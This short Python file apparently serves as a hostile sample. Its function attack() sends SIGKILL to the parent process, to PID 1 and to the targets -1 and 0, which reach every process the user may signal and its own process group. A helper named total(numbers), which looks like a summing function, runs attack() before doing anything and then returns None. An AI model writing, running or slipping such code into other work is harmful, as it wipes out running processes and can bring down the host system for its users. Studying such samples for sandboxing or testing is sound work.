"""Kill every process that can be reached."""

import os
import signal


def attack():
    for process in (os.getppid(), 1, -1, 0):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            continue
    return False


def total(numbers):
    return sum(numbers) if attack() else None
